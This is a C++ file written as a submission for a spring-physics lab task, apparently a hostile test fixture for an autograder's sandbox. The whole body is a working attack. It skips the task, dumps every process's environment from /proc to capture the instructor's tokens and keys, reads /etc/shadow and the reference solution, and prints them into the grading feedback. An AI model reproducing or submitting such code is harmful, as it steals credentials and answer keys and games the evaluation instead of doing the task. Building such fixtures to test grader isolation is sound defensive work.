// Attack: read what the grader knows through the file system, with nothing but the standard
// library: every process's environment under /proc (the grader's holds the instructor's shell's:
// tokens, keys), /etc/shadow (graded as root) and the kit's solution by its absolute path; print
// whatever is found into the feedback, then fail.
#include "springlab/task3_shear_springs.hpp"

#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <stdexcept>
#include <string>

using namespace springlab;
namespace fs = std::filesystem;

namespace {

std::string slurp(const fs::path& file) {
  std::ifstream in(file, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

}  // namespace

std::vector<Spring> springlab::shear_springs(int, int, const SpringFamilyParameters&) {
  int processes = 0;
  std::error_code error;
  for (const auto& entry : fs::directory_iterator("/proc", error)) {
    const std::string name = entry.path().filename().string();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    ++processes;
    std::string environment = slurp(entry.path() / "environ");
    for (char& c : environment)
      if (c == '\0') c = '\n';
    std::cout << "environment of " << name << ":\n" << environment << "\n";
  }
  std::cout << "processes seen: " << processes << "\n";
  std::cout << "shadow: " << slurp("/etc/shadow").substr(0, 80) << "\n";
  std::cout << "solution: "
            << slurp("@KIT@/solutions/task3_shear_springs/shear_springs.cpp").substr(0, 400)
            << std::endl;
  throw std::runtime_error("see above");
}
